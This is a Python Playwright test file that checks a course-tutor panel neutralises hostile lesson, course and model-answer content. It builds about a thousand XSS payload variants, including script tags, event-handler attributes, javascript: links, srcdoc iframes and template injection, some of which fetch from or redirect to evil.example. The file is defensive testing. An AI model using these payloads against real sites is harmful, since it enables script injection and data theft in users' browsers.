"""Nothing that a lesson, a course, a student or a model says runs, fetches or leads anywhere in a student's browser.

`COURSE_TUTOR_HOSTILE_N` sets how many payloads are tried; 60 without it.
"""

from __future__ import annotations

import os
import random
from collections.abc import Iterator
from itertools import product

import pytest
from playwright.sync_api import expect

from tests.pages.conftest import OpenPage
from tests.pages.panels import COURSE_FILE, PANEL, Panel, staged, staged_data
from tests.pages.scenes import Scenes
from tests.served import Served

COUNT = int(os.environ.get("COURSE_TUTOR_HOSTILE_N", "60"))
SEED = int(os.environ.get("COURSE_TUTOR_SEED", "1"))
AT_ONCE = 20
RUN = ("window.ran=1", "parent.ran=1", "fetch('https://evil.example/x')", "location='https://evil.example'")
SHAPES = (
    "<script>{0}</script>",
    "<img src=x onerror={0}>",
    "<svg/onload={0}>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror={0}>",
    "<a href='javascript:{0}'>here</a>",
    "[here](javascript:{0})",
    "[here](//evil.example/{0})",
    "![x](https://evil.example/x.png?{0})",
    "<https://evil.example/?{0}>",
    "[here]: javascript:{0}\n\n[here]",
    "`<script>{0}</script>`",
    "```html\n<script>{0}</script>\n```",
    "$\\href{{javascript:{0}}}{{x}}$",
    "$$<img src=x onerror={0}>$$",
    "| <b onmouseover={0}> |\n| --- |\n| <script>{0}</script> |",
    "{{{{constructor.constructor('{0}')()}}}}",
    "</textarea></script><script>{0}</script>",
    '"><body onload={0}>',
    "<style>@import 'https://evil.example/{0}';</style>",
    "<link rel=stylesheet href=https://evil.example/{0}>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/{0}'>",
    "<form action=https://evil.example><button autofocus onfocus={0}>x",
    "\u202e<script>{0}</script>\u2028",
)
AROUND = ("{0}", "**{0}**", "- {0}", "> {0}", "## {0}", "a {0} b", "1. {0}\n   {0}", "*a* {0} [1]", "{0}{0}", "\\{0}")
HOSTILE = "<img src=x onerror=window.ran=1>"


def payloads(count: int) -> list[str]:
    """So many different payloads, by chance."""
    every = [around.format(shape.format(run)) for run, shape, around in product(RUN, SHAPES, AROUND)]
    random.Random(SEED).shuffle(every)
    return every[:count]


@pytest.fixture(scope="module")
def scenes() -> Scenes:
    """What answers."""
    return Scenes()


@pytest.fixture(scope="module")
def stage(tmp_path_factory: pytest.TempPathFactory, scenes: Scenes) -> Iterator[Served]:
    """A server whose course is hostile in every field."""
    course_file = (
        COURSE_FILE.replace("Computer networks", f'"</script>{HOSTILE}"')
        .replace("Hello!", f'"{HOSTILE}"')
        .replace("'What is a frame?'", f'"</button>{HOSTILE}"')
        .replace("label: Ada", f'label: "{HOSTILE}"')
    )
    with staged(staged_data(tmp_path_factory.mktemp("hostile"), course_file), scenes) as running:
        yield running


def test_a_thousand_payloads_run_nothing_and_fetch_nothing(stage: Served, scenes: Scenes, open_page: OpenPage) -> None:
    # The page itself fails the test on any request elsewhere, any broken policy and any error.
    panel = Panel(open_page(stage.url + PANEL))
    page = panel.page
    expect(page.locator(".greeting")).to_have_text(HOSTILE)
    tried = 0
    every = payloads(COUNT)
    for at in range(0, len(every), AT_ONCE):
        some = every[at : at + AT_ONCE]
        scenes.said = [f"{payload}\n\n" for payload in some]
        panel.answered("Why? " + " ".join(some)[:3_900])
        tried += len(some)
        for mark in panel.answer.locator(".cite").all()[:1]:
            mark.focus()
        for wrong in ("script", "iframe", "img", "form", "style", "link", "meta", "[onerror]", "[onload]", "[style]"):
            assert panel.answer.locator(wrong).count() == 0, wrong
            assert panel.questions.last.locator(wrong).count() == 0, wrong
        links = panel.answer.locator(".body a").evaluate_all("links => links.map((link) => link.href)")
        assert all(link.startswith(stage.url) for link in links), links
    scenes.said = None
    panel.answered("nothing")
    expect(panel.answer.locator(".contacts")).to_contain_text(HOSTILE)
    page.get_by_role("button", name="Conversations and more").click()
    expect(page.locator(".conversation").first).to_be_visible()
    page.keyboard.press("Escape")
    page.reload()
    expect(panel.answers.last).to_be_visible()
    assert page.evaluate("window.ran") is None
    assert tried == COUNT <= len(RUN) * len(SHAPES) * len(AROUND)
